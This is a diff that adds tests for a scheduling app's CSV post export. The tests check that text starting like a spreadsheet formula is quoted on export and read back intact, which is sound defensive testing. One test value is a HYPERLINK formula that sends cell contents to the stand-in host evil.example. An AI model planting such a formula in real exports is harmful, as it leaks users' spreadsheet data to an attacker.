@@ -27,6 +27,16 @@ from tests.factories import make_workspace
 START = (utcnow() + timedelta(days=2)).replace(hour=0, minute=0, second=0, microsecond=0)
 AT_NINE = START.replace(hour=9)
 CSV_BODY = f"text,channels,time\nFirst,Sandbox,{AT_NINE.isoformat()}\nSecond,Sandbox,now\n"
+FORMULA_TEXTS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1 for the meetup",
+    "-- a dash first",
+    "@channel hello",
+    "\tA tab first",
+    "\rA carriage return first",
+    "'=already quoted by its author",
+    "''=twice",
+]
 
 
 def import_csv(client: FlaskClient, body: str, **headers: str) -> Any:
@@ -240,6 +250,16 @@ def test_the_posts_csv_export_imports_back_as_the_same_posts(
             "recurrence": "FREQ=WEEKLY;COUNT=3",
         },
         {"text": "Someday", "channels": ["Sandbox"], "draft": True},
+        # Texts a spreadsheet would run as formulas: exported with a quote in front, read back without.
+        *({"text": text, "channels": ["Sandbox"], "draft": True} for text in FORMULA_TEXTS),
+        {
+            "text": "@everyone, labels and replies too",
+            "channels": ["Sandbox", "Mastodon"],
+            "labels": ["+1", "-minus"],
+            "thread": ["=SUM(A1:A9)", "@reply"],
+            "text:mastodon": "-10% off",
+            "draft": True,
+        },
     ]
     first = workspace_client.post("/v1/imports", json=posts)
     assert first.status_code == 201, first.json
@@ -269,6 +289,33 @@ def test_the_posts_csv_export_imports_back_as_the_same_posts(
     copies = read_posts(services, again.json["post_ids"])
     # The post sent "now" is exported at the moment it was sent: a few seconds ago still counts as now.
     assert [shape(post) for post in copies] == [shape(post) for post in originals]
+
+
+def test_no_cell_of_the_posts_export_starts_as_a_formula(
+    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
+) -> None:
+    add_channel(services, workspace, "=1+1 team", "mastodon")
+    posts = [
+        {
+            "text": text,
+            "channels": ["=1+1 team", "Sandbox"],
+            "labels": ["@SUM(1+1)"],
+            "thread": ["+reply"],
+            "text:mastodon": "-2+3",
+            "draft": True,
+        }
+        for text in FORMULA_TEXTS
+    ]
+    assert workspace_client.post("/v1/imports", json=posts).status_code == 201
+
+    exported = workspace_client.get("/v1/exports/posts.csv").data.decode("utf-8-sig")
+
+    rows = list(csv.reader(io.StringIO(exported, newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) == len(FORMULA_TEXTS) + 1
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert {row[0] for row in rows[1:]} == {"'" + text for text in FORMULA_TEXTS}
+    assert {row[1] for row in rows[1:]} == {"'=1+1 team|Sandbox"}
 
 
 def test_the_posts_csv_export_is_filtered_like_the_post_list(
